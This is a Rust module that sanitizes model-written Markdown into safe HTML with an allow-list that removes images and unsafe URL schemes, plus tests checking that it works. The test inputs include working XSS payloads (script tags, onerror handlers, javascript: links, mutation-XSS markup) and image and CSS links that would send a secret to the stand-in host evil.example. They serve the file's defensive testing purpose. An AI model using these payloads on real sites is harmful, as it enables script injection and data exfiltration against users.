//! Markdown that a model wrote, as HTML that may stand in a page.
//!
//! The key decision: what a model writes is untrusted. It is sanitized here, by an allow-list, and not in the
//! browser. Pictures are left out: an address made by a model would be fetched and could carry out
//! what the conversation holds.

use std::collections::HashSet;

use pulldown_cmark::{Options, Parser, html};

/// Safe HTML.
pub(crate) fn to_html(markdown: &str) -> String {
    let options =
        Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH | Options::ENABLE_TASKLISTS;
    let mut raw = String::new();
    html::push_html(&mut raw, Parser::new_ext(markdown, options));
    ammonia::Builder::default()
        .rm_tags(["img"])
        .url_schemes(HashSet::from(["http", "https", "mailto"]))
        .link_rel(Some("noopener noreferrer nofollow"))
        .clean(&raw)
        .to_string()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_runs_or_is_fetched_does_not_come_through() {
        for markdown in [
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "![a](https://evil.example/?q=secret)",
            "[a](javascript:alert(1))",
            "<a href=\"jAvascript:alert(1)\">a</a>",
            "<svg><script>alert(1)</script></svg>",
            "<iframe src=//evil.example></iframe>",
            "<p style=\"background:url(//evil.example)\" onclick=alert(1)>a",
            "<style>*{background:url(//evil.example)}</style>",
            "<form action=//evil.example><input name=a></form>",
            "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        ] {
            let html = to_html(markdown).to_lowercase();
            for bad in
                ["<script", "<img", "javascript:", "onerror=", "onclick=", "<iframe", "<style"]
            {
                assert!(!html.contains(bad), "{markdown}: {html}");
            }
            for bad in ["<form", "style=", "<svg", "<input", "src="] {
                assert!(!html.contains(bad), "{markdown}: {html}");
            }
        }
    }

    #[test]
    fn markdown_becomes_html() {
        for (markdown, expected) in [
            ("**a**", "<strong>a</strong>"),
            ("|a|\n|-|\n|b|", "<td>b</td>"),
            ("`1 < 2`", "<code>1 &lt; 2</code>"),
            ("[a](https://example.org)", "rel=\"noopener noreferrer nofollow\""),
        ] {
            let html = to_html(markdown);
            assert!(html.contains(expected), "{markdown}: {html}");
        }
    }
}
